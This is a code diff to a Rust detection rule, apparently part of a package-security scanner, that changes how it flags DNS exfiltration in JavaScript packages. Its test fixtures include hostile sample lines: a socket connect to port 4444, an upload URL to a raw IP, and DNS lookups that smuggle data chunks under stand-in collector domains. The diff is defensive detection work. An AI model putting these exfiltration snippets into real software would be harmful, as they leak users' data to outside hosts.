@@ -21,10 +21,10 @@ crate::declare_rule! {
            "const u = 'http://' + '203.0.113.9' + ':1224/uploads'",
            "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
            "https.get('https://pastebin.com/raw/abcd')",
-           "const dns = require('dns'); dns.lookup(hex + '.' + zone, () => {}); const hex = Buffer.from(d).toString('hex')"],
+           "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
     pass: ["fetch('https://api.example.com/v2/items')", "const local = 'http://127.0.0.1:8080'",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nconnect to http://203.0.113.10:8080",
-           "const v = '1.2.3.4' // version-ish string not used as an address"],
+           "const v = '1.2.3.4' // version-ish string not used as an address", "const dns = require('dns'); dns.lookup(host, cb)"],
 }
 
 fn public_ipv4(s: &str) -> bool {
@@ -110,29 +110,31 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
             continue;
         }
-        if let Some(js) = &f.js {
-            let hexes = crate::rules::all_text(f).contains("'hex'")
-                || crate::rules::all_text(f).contains("\"hex\"");
-            if hexes
-                && let Some(c) = js.calls.iter().find(|c| {
-                    matches!(
-                        c.path.as_str(),
-                        "dns.lookup"
-                            | "dns.resolve"
-                            | "dns.resolve4"
-                            | "dns.resolveTxt"
-                            | "dns.promises.lookup"
-                            | "dns.promises.resolve"
-                    ) && c.arg_lit(0).is_none()
-                })
-            {
-                out.hit(
-                    pkg,
-                    f,
-                    c.off,
-                    "resolves DNS names built from hex-encoded data (DNS exfiltration)",
-                );
-            }
+        if let Some(js) = &f.js
+            && let Some(c) = js.calls.iter().find(|c| {
+                matches!(
+                    c.path.as_str(),
+                    "dns.lookup"
+                        | "dns.resolve"
+                        | "dns.resolve4"
+                        | "dns.resolveTxt"
+                        | "dns.promises.lookup"
+                        | "dns.promises.resolve"
+                        | "dns/promises.lookup"
+                        | "dns/promises.resolve"
+                ) && c.arg_lit(0).is_none()
+                    && c.args
+                        .first()
+                        .and_then(|a| a.tail.as_deref())
+                        .is_some_and(|t| t.starts_with('.') && t.len() > 4 && t[1..].contains('.'))
+            })
+        {
+            out.hit(
+                pkg,
+                f,
+                c.off,
+                "resolves DNS names that carry data under a fixed domain (DNS exfiltration)",
+            );
         }
     }
 }
